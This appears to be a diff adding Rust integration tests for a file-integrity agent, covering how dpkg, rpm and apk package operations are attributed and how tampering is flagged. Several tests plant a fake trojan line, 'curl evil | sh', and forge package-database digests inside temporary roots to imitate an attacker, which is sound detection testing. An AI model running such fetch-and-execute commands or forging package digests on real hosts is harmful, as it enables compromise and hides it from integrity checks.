@@ -1,0 +1,507 @@
+//! Package attribution (DESIGN §10) on real package managers: packages built with dpkg-deb and
+//! rpmbuild, installed, upgraded, reinstalled and removed with `dpkg --root` and
+//! `rpm --root --dbpath` in a temporary host root; an apk database written in apk's format.
+//! Each shows: an operation explains its changes (one Aggregated report with Summarize) and
+//! leaves nothing unexplained, database files included; a file changed by hand afterwards is
+//! unexplained; a file and its digest in the database both rewritten by hand leave at least one
+//! unexplained change; a removal is explained; a malformed database is an entity error.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers panic with the failure
+
+mod common;
+
+use common::{packaging::*, *};
+use kubefim_agent::{diff::Change, scan::ScanMode};
+use kubefim_crds::{
+    AttributionKind, ChangeCategory as C, PackageManager, WorkspaceConfig, nodestatus::EntityState,
+    workspace::AttributionMode,
+};
+
+/// Changes nothing explains.
+fn unexplained(changes: &[Change]) -> Vec<(String, C, Vec<kubefim_crds::filechange::ChangedAttribute>)> {
+    let bare: Vec<Change> = changes
+        .iter()
+        .filter(|c| c.attribution.is_none())
+        .cloned()
+        .collect();
+    paths(&bare)
+}
+
+/// The Aggregated reports of package operations.
+fn reports(changes: &[Change]) -> Vec<&Change> {
+    changes
+        .iter()
+        .filter(|c| c.category == C::Aggregated && c.attribution.is_some())
+        .collect()
+}
+
+fn ws(mode: AttributionMode, database: &str) -> WorkspaceConfig {
+    let mut ws = workspace(vec![
+        files("bin", "/usr/bin"),
+        files("etc", "/etc"),
+        files("packages", database),
+    ]);
+    ws.packages.attribution = mode;
+    ws
+}
+
+fn v1() -> Vec<Item> {
+    vec![
+        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 1.0\n"),
+        file("/usr/bin/kfhelper", "#!/bin/sh\necho helper\n"),
+        symlink("/usr/bin/kfdemo-link", "kfdemo"),
+        conffile("/etc/kfdemo.conf", "level = 1\n"),
+    ]
+}
+
+fn v2() -> Vec<Item> {
+    vec![
+        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 2.0, much improved\n"),
+        file("/usr/bin/kfhelper", "#!/bin/sh\necho helper\n"),
+        symlink("/usr/bin/kfdemo-link", "kfdemo"),
+        conffile("/etc/kfdemo.conf", "level = 2\n"),
+    ]
+}
+
+/// Installs kfdemo 1.0 with dpkg and takes the baseline; returns the fixture and the 2.0 deb.
+fn dpkg_fixture(mode: AttributionMode) -> (Fixture, WorkspaceConfig, std::path::PathBuf) {
+    require("dpkg-deb");
+    let fx = Fixture::new();
+    let debs = fx.state.path().join("debs");
+    dpkg_init(fx.host.path());
+    let first = build_deb(&debs, "kfdemo", "1.0", &v1());
+    dpkg(fx.host.path(), &["-i", first.to_str().unwrap()]);
+    let ws = ws(mode, "/var/lib/dpkg");
+    fx.init(&ws);
+    let second = build_deb(&debs, "kfdemo", "2.0", &v2());
+    (fx, ws, second)
+}
+
+#[test]
+fn a_dpkg_upgrade_is_one_explained_report_and_nothing_unexplained() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), [], "database files included");
+    let reports = reports(&changes);
+    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
+    let report = reports[0];
+    let attribution = report.attribution.as_ref().unwrap();
+    assert_eq!(attribution.kind, AttributionKind::Package);
+    assert_eq!(attribution.manager, Some(PackageManager::Dpkg));
+    assert_eq!(attribution.package.as_deref(), Some("kfdemo"));
+    assert_eq!(
+        (
+            attribution.from_version.as_deref(),
+            attribution.to_version.as_deref()
+        ),
+        (Some("1.0"), Some("2.0"))
+    );
+    assert!(
+        attribution.digest_verified,
+        "the binary and the conffile match their md5"
+    );
+    let folded = report.aggregated.as_ref().unwrap();
+    assert!(
+        folded.count >= 3,
+        "binary, conffile and database files: {folded:#?}"
+    );
+    for path in ["/usr/bin/kfdemo", "/etc/kfdemo.conf", "/var/lib/dpkg/status"] {
+        assert!(
+            folded.sample_paths.iter().any(|p| p == path),
+            "{path} in {folded:#?}"
+        );
+    }
+    assert!(fx.detect(&ws).is_empty(), "the upgrade is now the baseline");
+}
+
+#[test]
+fn report_mode_keeps_one_change_each_with_its_attribution() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    let changes = fx.detect(&ws);
+    assert!(reports(&changes).is_empty());
+    assert_eq!(unexplained(&changes), []);
+    let binary = only_change(&changes, "/usr/bin/kfdemo");
+    let attribution = binary.attribution.as_ref().unwrap();
+    assert!(attribution.digest_verified);
+    assert_eq!(attribution.to_version.as_deref(), Some("2.0"));
+    let status = only_change(&changes, "/var/lib/dpkg/status");
+    assert!(
+        !status.attribution.as_ref().unwrap().digest_verified,
+        "a database file is explained by the operation"
+    );
+}
+
+#[test]
+fn off_explains_nothing() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Off);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    let changes = fx.detect(&ws);
+    assert!(changes.iter().all(|c| c.attribution.is_none()));
+    only_change(&changes, "/usr/bin/kfdemo");
+}
+
+#[test]
+fn a_file_changed_by_hand_after_a_dpkg_upgrade_is_unexplained() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    fx.detect(&ws);
+    fx.write("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes).len(), 1, "{:#?}", paths(&changes));
+    assert!(only_change(&changes, "/usr/bin/kfdemo").attribution.is_none());
+}
+
+#[test]
+fn a_change_by_hand_during_the_upgrade_window_is_unexplained() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    // Same scan window as the upgrade: the digest no longer matches what dpkg recorded.
+    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    assert_eq!(
+        unexplained(&changes)
+            .iter()
+            .map(|(p, ..)| p.as_str())
+            .collect::<Vec<_>>(),
+        ["/usr/bin/kfhelper"]
+    );
+}
+
+#[test]
+fn a_binary_and_its_md5sums_line_rewritten_by_hand_are_unexplained() {
+    let (fx, ws, _) = dpkg_fixture(AttributionMode::Summarize);
+    let trojan = "#!/bin/sh\ncurl evil | sh\n";
+    fx.write("/usr/bin/kfdemo", trojan);
+    let md5sums = fx.path("/var/lib/dpkg/info/kfdemo.md5sums");
+    let text = std::fs::read_to_string(&md5sums).unwrap();
+    let forged: String = text
+        .lines()
+        .map(|line| match line.split_once("  ") {
+            Some((_, "usr/bin/kfdemo")) => format!("{:x}  usr/bin/kfdemo\n", {
+                use md5::Digest as _;
+                md5::Md5::digest(trojan.as_bytes())
+            }),
+            _ => format!("{line}\n"),
+        })
+        .collect();
+    assert_ne!(forged, text, "the digest line was rewritten");
+    std::fs::write(&md5sums, forged).unwrap();
+    let changes = fx.detect(&ws);
+    let bare = unexplained(&changes);
+    assert!(!bare.is_empty(), "{:#?}", paths(&changes));
+    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
+    assert!(
+        bare.iter()
+            .any(|(p, ..)| p == "/var/lib/dpkg/info/kfdemo.md5sums"),
+        "{bare:#?}"
+    );
+}
+
+#[test]
+fn a_dpkg_reinstall_is_explained_with_equal_versions() {
+    let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
+    let again = build_deb(&fx.state.path().join("debs"), "kfdemo", "1.0", &v1());
+    dpkg(fx.host.path(), &["-i", again.to_str().unwrap()]);
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), []);
+    let binary = only_change(&changes, "/usr/bin/kfdemo");
+    let attribution = binary.attribution.as_ref().unwrap();
+    assert_eq!(
+        (
+            attribution.from_version.as_deref(),
+            attribution.to_version.as_deref()
+        ),
+        (Some("1.0"), Some("1.0"))
+    );
+}
+
+#[test]
+fn a_dpkg_removal_is_explained() {
+    let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
+    dpkg(fx.host.path(), &["-P", "kfdemo"]);
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), []);
+    let removed = only_change(&changes, "/usr/bin/kfdemo");
+    assert_eq!(removed.category, C::Removed);
+    let attribution = removed.attribution.as_ref().unwrap();
+    assert_eq!(
+        (
+            attribution.from_version.as_deref(),
+            attribution.to_version.as_deref()
+        ),
+        (Some("1.0"), None)
+    );
+    assert!(
+        !attribution.digest_verified,
+        "a removal is explained by ownership"
+    );
+}
+
+#[test]
+fn a_malformed_dpkg_database_is_an_entity_error_and_explains_nothing() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Summarize);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    let status = fx.path("/var/lib/dpkg/status");
+    let mut text = std::fs::read(&status).unwrap();
+    text.extend_from_slice(b"\nVersion: 3.0\nStatus: install ok installed\n");
+    std::fs::write(&status, text).unwrap();
+    let (outcome, changes) = fx.scan(&ws, ScanMode::Detect);
+    assert!(reports(&changes).is_empty());
+    only_change(&changes, "/usr/bin/kfdemo");
+    let database = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
+    assert_eq!(database.state, EntityState::Error);
+    let message = database.message.as_deref().unwrap();
+    assert!(message.contains("/var/lib/dpkg/status"), "{message}");
+    let binaries = outcome.entities.iter().find(|e| e.name == "bin").unwrap();
+    assert_eq!(binaries.errors.get("package_database_unreadable"), Some(&1));
+}
+
+/// Installs kfdemo 1.0 with rpm and takes the baseline; returns the fixture and the 2.0 rpm.
+fn rpm_fixture(mode: AttributionMode) -> (Fixture, WorkspaceConfig, std::path::PathBuf) {
+    require("rpmbuild");
+    let fx = Fixture::new();
+    let rpms = fx.state.path().join("rpms");
+    let first = build_rpm(&rpms, "kfdemo", "1.0", &v1());
+    rpm(fx.host.path(), &["-i", first.to_str().unwrap()]);
+    let ws = ws(mode, "/var/lib/rpm");
+    fx.init(&ws);
+    (fx, ws, build_rpm(&rpms, "kfdemo", "2.0", &v2()))
+}
+
+#[test]
+fn an_rpm_upgrade_is_one_explained_report_and_nothing_unexplained() {
+    let (fx, ws, second) = rpm_fixture(AttributionMode::Summarize);
+    rpm(fx.host.path(), &["-U", second.to_str().unwrap()]);
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), [], "database files included");
+    let reports = reports(&changes);
+    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
+    let attribution = reports[0].attribution.as_ref().unwrap();
+    assert_eq!(attribution.manager, Some(PackageManager::Rpm));
+    assert_eq!(attribution.package.as_deref(), Some("kfdemo.noarch"));
+    assert_eq!(
+        (
+            attribution.from_version.as_deref(),
+            attribution.to_version.as_deref()
+        ),
+        (Some("1.0-1"), Some("2.0-1"))
+    );
+    assert!(attribution.digest_verified, "sha256 digests from the header");
+}
+
+#[test]
+fn a_file_changed_by_hand_on_an_rpm_host_is_unexplained_and_a_removal_is_explained() {
+    let (fx, ws, _) = rpm_fixture(AttributionMode::Report);
+    fx.write("/usr/bin/kfhelper", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes).len(), 1, "{:#?}", paths(&changes));
+    rpm(fx.host.path(), &["-e", "kfdemo"]);
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), []);
+    let removed = only_change(&changes, "/usr/bin/kfdemo");
+    assert_eq!(removed.category, C::Removed);
+    assert_eq!(removed.attribution.as_ref().unwrap().to_version, None);
+}
+
+#[test]
+fn a_binary_and_its_rpm_header_digest_rewritten_by_hand_are_unexplained() {
+    let (fx, ws, _) = rpm_fixture(AttributionMode::Summarize);
+    let original = "#!/bin/sh\necho kfdemo 1.0\n";
+    let trojan = "#!/bin/sh\necho kfdemo 6.6\n";
+    assert_eq!(original.len(), trojan.len(), "the header keeps its sizes");
+    let hex = |s: &str| {
+        use sha2::Digest as _;
+        format!("{:x}", sha2::Sha256::digest(s.as_bytes()))
+    };
+    let database = fx.path("/var/lib/rpm/rpmdb.sqlite");
+    let bytes = std::fs::read(&database).unwrap();
+    let (old, new) = (hex(original), hex(trojan));
+    let at = bytes
+        .windows(old.len())
+        .position(|w| w == old.as_bytes())
+        .expect("the digest is in the main file (rpm checkpoints on close)");
+    let mut forged = bytes.clone();
+    forged[at..at + new.len()].copy_from_slice(new.as_bytes());
+    std::fs::write(&database, forged).unwrap();
+    fx.write("/usr/bin/kfdemo", trojan);
+    let changes = fx.detect(&ws);
+    let bare = unexplained(&changes);
+    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
+    assert!(
+        bare.iter().any(|(p, ..)| p == "/var/lib/rpm/rpmdb.sqlite"),
+        "{bare:#?}"
+    );
+}
+
+#[test]
+fn a_malformed_rpm_database_is_an_entity_error() {
+    let (fx, ws, _) = rpm_fixture(AttributionMode::Summarize);
+    let database = fx.path("/var/lib/rpm/rpmdb.sqlite");
+    let mut bytes = std::fs::read(&database).unwrap();
+    // A page size of 3 bytes: not a database SQLite could open.
+    bytes[16] = 0;
+    bytes[17] = 3;
+    std::fs::write(&database, bytes).unwrap();
+    fx.write("/usr/bin/kfdemo", "changed\n");
+    let (outcome, changes) = fx.scan(&ws, ScanMode::Detect);
+    assert!(only_change(&changes, "/usr/bin/kfdemo").attribution.is_none());
+    let entity = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
+    assert_eq!(entity.state, EntityState::Error);
+    assert!(entity.message.as_deref().unwrap().contains("rpmdb.sqlite"));
+}
+
+fn apk_v1() -> Vec<Item> {
+    vec![
+        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 1.0\n"),
+        symlink("/usr/bin/kfdemo-link", "kfdemo"),
+    ]
+}
+
+#[test]
+fn an_apk_upgrade_is_explained_and_a_hand_change_is_not() {
+    let fx = Fixture::new();
+    apk_install(
+        fx.host.path(),
+        &[ApkPackage {
+            name: "kfdemo",
+            version: "1.0-r0",
+            items: &apk_v1(),
+        }],
+    );
+    let ws = ws(AttributionMode::Summarize, "/lib/apk/db");
+    fx.init(&ws);
+    let v2 = [
+        file("/usr/bin/kfdemo", "#!/bin/sh\necho kfdemo 2.0\n"),
+        symlink("/usr/bin/kfdemo-link", "kfdemo"),
+    ];
+    apk_install(
+        fx.host.path(),
+        &[ApkPackage {
+            name: "kfdemo",
+            version: "2.0-r0",
+            items: &v2,
+        }],
+    );
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), [], "the database file included");
+    let reports = reports(&changes);
+    assert_eq!(reports.len(), 1, "{:#?}", paths(&changes));
+    let attribution = reports[0].attribution.as_ref().unwrap();
+    assert_eq!(attribution.manager, Some(PackageManager::Apk));
+    assert!(attribution.digest_verified, "sha1 from Z: lines");
+    fx.write("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes).len(), 1);
+}
+
+#[test]
+fn an_apk_binary_and_its_checksum_rewritten_by_hand_are_unexplained_and_a_removal_is_explained() {
+    let fx = Fixture::new();
+    let other = [file("/usr/bin/other", "other\n")];
+    let installed = |items: &[Item]| {
+        apk_install(
+            fx.host.path(),
+            &[
+                ApkPackage {
+                    name: "kfdemo",
+                    version: "1.0-r0",
+                    items,
+                },
+                ApkPackage {
+                    name: "other",
+                    version: "1.0-r0",
+                    items: &other,
+                },
+            ],
+        )
+    };
+    installed(&apk_v1());
+    let ws = ws(AttributionMode::Report, "/lib/apk/db");
+    fx.init(&ws);
+    // The same version with another binary: what a forger writes.
+    installed(&[
+        file("/usr/bin/kfdemo", "#!/bin/sh\ncurl evil | sh\n"),
+        symlink("/usr/bin/kfdemo-link", "kfdemo"),
+    ]);
+    let changes = fx.detect(&ws);
+    let bare = unexplained(&changes);
+    assert!(bare.iter().any(|(p, ..)| p == "/usr/bin/kfdemo"), "{bare:#?}");
+    assert!(
+        bare.iter().any(|(p, ..)| p == "/lib/apk/db/installed"),
+        "{bare:#?}"
+    );
+    // Removal: the package leaves the database and its files leave the disk.
+    apk_install(
+        fx.host.path(),
+        &[ApkPackage {
+            name: "other",
+            version: "1.0-r0",
+            items: &other,
+        }],
+    );
+    std::fs::remove_file(fx.path("/usr/bin/kfdemo")).unwrap();
+    std::fs::remove_file(fx.path("/usr/bin/kfdemo-link")).unwrap();
+    let changes = fx.detect(&ws);
+    assert_eq!(unexplained(&changes), []);
+    assert_eq!(only_change(&changes, "/usr/bin/kfdemo").category, C::Removed);
+}
+
+#[test]
+fn a_malformed_apk_database_is_an_entity_error() {
+    let fx = Fixture::new();
+    apk_install(
+        fx.host.path(),
+        &[ApkPackage {
+            name: "kfdemo",
+            version: "1.0-r0",
+            items: &apk_v1(),
+        }],
+    );
+    let ws = ws(AttributionMode::Summarize, "/lib/apk/db");
+    fx.init(&ws);
+    std::fs::write(
+        fx.path("/lib/apk/db/installed"),
+        "P:kfdemo\nV:1.0-r0\nR:kfdemo\nZ:not-a-checksum\n",
+    )
+    .unwrap();
+    let (outcome, _) = fx.scan(&ws, ScanMode::Detect);
+    let entity = outcome.entities.iter().find(|e| e.name == "packages").unwrap();
+    assert_eq!(entity.state, EntityState::Error);
+    assert!(
+        entity
+            .message
+            .as_deref()
+            .unwrap()
+            .contains("/lib/apk/db/installed")
+    );
+}
+
+#[test]
+fn a_package_manager_holding_its_lock_is_an_operation_in_progress() {
+    let fx = Fixture::new();
+    dpkg_init(fx.host.path());
+    let lock = fx.write("/var/lib/dpkg/lock", "");
+    assert!(!kubefim_agent::packages::in_progress(&fx.root));
+    // A real POSIX lock held by another process, as dpkg holds it.
+    let mut holder = std::process::Command::new("python3")
+        .arg("-c")
+        .arg("import fcntl, sys, time\nf = open(sys.argv[1], 'r+')\nfcntl.lockf(f, fcntl.LOCK_EX)\nprint('locked', flush=True)\ntime.sleep(60)")
+        .arg(&lock)
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(holder.stdout.as_mut().unwrap()),
+        &mut line,
+    )
+    .unwrap();
+    assert_eq!(line.trim(), "locked");
+    let held = kubefim_agent::packages::in_progress(&fx.root);
+    holder.kill().unwrap();
+    holder.wait().unwrap();
+    assert!(held, "the lock is seen as held");
+    assert!(!kubefim_agent::packages::in_progress(&fx.root), "and as released");
+}
